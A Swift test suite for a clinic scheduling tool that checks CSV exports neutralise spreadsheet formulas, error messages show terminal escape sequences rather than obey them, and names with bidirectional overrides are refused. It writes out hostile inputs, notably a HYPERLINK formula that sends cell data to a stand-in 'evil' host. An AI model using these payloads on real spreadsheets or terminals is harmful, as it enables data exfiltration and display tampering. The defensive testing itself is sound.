import Foundation
import Testing

/// What a hostile or careless entry could do to whoever reads the output: a spreadsheet running a
/// formula from a CSV export, a terminal obeying an escape typed into an option, a name that reverses
/// itself on screen, and a mistyped pager that would leave the desk with an empty screen.
@Suite("Output stays safe to open, show and page")
struct OutputSafetyTests {
    @Test("--csv never hands a spreadsheet a formula, and import reads its own export back")
    func csvInjection() throws {
        let clinic = try schedulingSite()
        let added = try clinic.ok(["patient", "add", "--first", "=HYPERLINK(\"http://evil/?\"&A1,\"x\")", "--last", "+Evilcalc",
                                   "--dob", "1980-01-01", "--phone", "+1 514-555-0199", "--email=-x@evil.org"])
        let chart = try #require(added["chart"] as? String)
        let found = try clinic.run(["patient", "find", "evilcalc", "--csv"])
        #expect(found.status == 0)
        let row = try #require(found.stdout.split(separator: "\n").last.map(String.init))
        #expect(row == "\(chart),'+Evilcalc,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",1980-01-01,'+1 514-555-0199,'-x@evil.org", "\(row)")

        // The export, imported elsewhere, gives the values typed (first,last,dob,phone from its columns).
        let other = ClinicProcess()
        try other.ok(["init", "--site-code", "QC", "--site-name", "Québec", "--timezone", "America/Toronto", "--test-clock"])
        let file = scratchFile(other, "export.csv")
        try Data(found.stdout.utf8).write(to: URL(fileURLWithPath: file))
        #expect(try other.ok(["import", "patients", "--csv", file])["imported"] as? Int == 1)
        let shown = try other.ok(["patient", "show", "QC-000001"])
        #expect(shown["last"] as? String == "+Evilcalc" && shown["phone"] as? String == "+1 514-555-0199")
    }

    @Test("a value typed into an option is shown with its escape sequences visible, never obeyed")
    func escapesInParserErrors() throws {
        let clinic = try schedulingSite()
        let typed = "\u{1B}[31mRED\u{1B}]0;t\u{07}"
        let result = try clinic.run(["book", "--patient", "MTL-000001", "--with", "jdoe", "--service", "physio-30", "--at", "2026-12-01 09:00",
                                     "--repeat", typed, "--count", "2"])
        #expect(result.status == 64)
        #expect(!result.stderr.contains("\u{1B}") && !result.stderr.contains("\u{07}"), "\(result.stderr.debugDescription)")
        #expect(result.stderr.contains("\\u{1B}[31mRED"), "\(result.stderr)")
    }

    @Test("names with bidirectional overrides or line separators are refused like control characters")
    func bidiRefused() throws {
        let clinic = try schedulingSite()
        for name in ["Bidi\u{202E}evil", "Line\u{2028}break", "Iso\u{2066}late"] {
            let result = try clinic.run(["patient", "add", "--first", name, "--last", "Test", "--dob", "1980-01-01", "--json"])
            #expect(result.status == 64 && result.errorCode == "invalid-text", "\(name.unicodeScalars.map(\.value)): \(result.stderr)")
        }
        // Accents, apostrophes and non-Latin scripts are names, not controls.
        try clinic.ok(["patient", "add", "--first", "Zoë", "--last", "N'Guyễn-Ñúñez", "--dob", "1980-01-01"])
        try clinic.ok(["patient", "add", "--first", "سارة", "--last", "אברהם", "--dob", "1981-01-01"])
    }

    @Test("a pager that cannot run leaves the schedule printed, with a warning")
    func brokenPager() throws {
        let clinic = try schedulingSite()
        try clinic.ok(["book", "--patient", "MTL-000001", "--with", "jdoe", "--service", "physio-30", "--at", "2026-12-01 09:00"])
        for pager in ["/nonexistent/pager", "false"] {
            let shown = try clinic.inTerminal(["schedule", "--week", "2026-12-01"], environment: ["PAGER": pager, "LANG": "C.UTF-8"])
            #expect(shown.status == 0)
            #expect(shown.stdout.contains("MTL-000001"), "PAGER=\(pager): \(shown.stdout)")
            #expect(shown.stdout.contains("the pager ($PAGER) did not run"), "\(shown.stdout)")
        }
    }

    @Test("messages name the file and the command meant")
    func namedMessages() throws {
        let clinic = try schedulingSite()
        let folder = URL(fileURLWithPath: clinic.database).deletingLastPathComponent().path
        let missing = try clinic.run(["sync", "import", folder + "/nowhere.log", "--json"])
        #expect(missing.errorCode == "no-such-file" && missing.stderr.contains("\(folder)/nowhere.log"), "\(missing.stderr)")
        let prefix = try clinic.run(["patient", "prec"])
        #expect(prefix.status == 64 && prefix.stderr.contains("did you mean 'precaution'"), "\(prefix.stderr)")
    }
}
